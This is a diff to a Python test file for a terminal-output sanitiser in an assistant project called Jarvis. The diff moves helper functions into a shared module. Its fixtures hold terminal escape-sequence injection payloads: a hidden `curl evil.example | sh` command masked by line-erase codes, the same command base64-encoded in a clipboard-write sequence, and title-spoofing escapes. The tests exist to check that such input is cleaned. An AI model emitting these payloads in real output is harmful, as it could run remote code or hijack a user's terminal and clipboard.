@@ -4,7 +4,6 @@ pipe ends the run quietly with 141), and the end-of-run report cannot turn a fin
 from __future__ import annotations
 
 import io
-import json
 import os
 import random
 import re
@@ -16,6 +15,7 @@ import colorama
 import pytest
 
 from fakes import Sink
+from helpers import CONTROLS, RUN_JARVIS, child_environment, run_jarvis, transcript_answering
 from subprocess_guard import network_guarded
 from waiting import wait_until
 from loopback_llm import HTTPError, LoopbackLLMServer
@@ -23,14 +23,7 @@ from aiflows_jarvis.CoreFlowModule import Console, TerminalInput
 from aiflows_jarvis.CoreFlowModule.interaction import _STYLES, OutputClosed
 from aiflows_jarvis.CoreFlowModule.terminal import clean_text
 
-ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
-RUN_JARVIS = os.path.join(ROOT, "run_jarvis.py")
-DEMO = os.path.join(ROOT, "flow_modules", "aiflows_jarvis", "JarvisFlowModule", "demo", "demo_transcript.jsonl")
-KEYS = ("OPENAI_API_KEY", "AZURE_API_KEY", "AZURE_OPENAI_API_KEY", "AZURE_API_BASE", "OPENAI_API_BASE")
-
 ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
-# Every character a terminal may act on: C0 but tab and line feed, DEL, C1 (U+009B is the 8-bit CSI).
-CONTROLS = {chr(c) for c in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]} - {"\t", "\n"}
 HIDDEN_CODE = f"import os; os.system('curl evil.example | sh'){ESC}[2K{ESC}[Gprint('hello')"
 EVIL = (f"{ESC}]0;pwned{BEL}{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}{HIDDEN_CODE}\r"
         f"{ESC}P+q544e{ST}\x9b2J\x9d0;t\x9c\x85\x00\x7f done")
@@ -291,39 +284,8 @@ def test_a_failing_report_is_one_line_and_the_usage_still_shows(monkeypatch):
 
 
 # ~~~ through run_jarvis.py ~~~
-def transcript_answering(tmp_path, answer: str) -> str:
-    """The demo's recording with ``answer`` as Jarvis's final answer (the requests are not compared: the later ones
-    quote the answer)."""
-    lines = []
-    with open(DEMO, encoding="utf-8") as f:
-        for line in f:
-            record = json.loads(line)
-            if record.get("type") == "llm":
-                record.pop("messages", None)
-                if '"final_answer"' in record["reply"]:
-                    reply = json.loads(record["reply"])
-                    reply["command_args"]["answer"] = answer
-                    record["reply"] = json.dumps(reply)
-            lines.append(json.dumps(record))
-    path = tmp_path / "transcript.jsonl"
-    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
-    return str(path)
-
-
 ANSWER = f"{ESC}]0;pwned{BEL}April grew the most: Café +17.2 €.{ESC}[2K{ESC}[G Thanks."
 SHOWN = "April grew the most: Café +17.2 €. Thanks."
-
-
-def child_environment(**extra):
-    env = {k: v for k, v in os.environ.items() if k not in KEYS and not k.startswith("FAKE_EDITOR")}
-    env.update(NO_COLOR="1", **extra)
-    return env
-
-
-def run_jarvis(cwd, *args, **env):
-    with network_guarded(child_environment(**env)) as guarded:
-        return subprocess.run([sys.executable, RUN_JARVIS, *args], cwd=cwd, env=guarded, capture_output=True,
-                              timeout=240, stdin=subprocess.DEVNULL)
 
 
 def final_answer(stdout: bytes, encoding: str) -> str:
@@ -334,7 +296,7 @@ def test_a_final_answer_with_escapes_is_shown_cleaned_and_a_dangling_link_change
     memory = tmp_path / "memory"
     memory.mkdir()
     os.symlink(tmp_path / "nowhere.png", memory / "old_chart.png")
-    done = run_jarvis(tmp_path, "--replay", transcript_answering(tmp_path, ANSWER), "--yes")
+    done = run_jarvis(tmp_path, "--replay", transcript_answering(tmp_path, ANSWER), "--yes", text=False)
     assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
     assert b"Traceback" not in done.stderr
     assert final_answer(done.stdout, "utf-8") == SHOWN
@@ -344,7 +306,8 @@ def test_a_final_answer_with_escapes_is_shown_cleaned_and_a_dangling_link_change
 
 def test_an_ascii_only_output_shows_the_final_answer_with_escapes(tmp_path):
     """The line was dropped, and the run ended with 0."""
-    done = run_jarvis(tmp_path, "--replay", transcript_answering(tmp_path, SHOWN), "--yes", PYTHONIOENCODING="ascii")
+    done = run_jarvis(tmp_path, "--replay", transcript_answering(tmp_path, SHOWN), "--yes", text=False,
+                      PYTHONIOENCODING="ascii")
     assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
     assert final_answer(done.stdout, "ascii") == SHOWN.replace("é", "\\xe9").replace("€", "\\u20ac")
 
@@ -367,7 +330,7 @@ def test_a_reader_that_goes_away_ends_the_run_quietly_with_141(tmp_path):
 def test_a_server_error_message_with_escapes_is_shown_cleaned(tmp_path):
     """A 401 whose message holds an OSC crashed the error display itself (colorama's title handling)."""
     with LoopbackLLMServer(replies=[HTTPError(401, f"bad key{ESC}]0;pwned{BEL}{ESC}[2K, check it")]) as server:
-        done = run_jarvis(tmp_path, "--api-base", server.url, "--yes", "Say hello")
+        done = run_jarvis(tmp_path, "--api-base", server.url, "--yes", "Say hello", text=False)
     out = done.stdout.decode("utf-8")
     assert done.returncode in (1, 2), out[-3000:] + done.stderr.decode()[-3000:]
     assert "bad key, check it" in out and b"Traceback" not in done.stderr
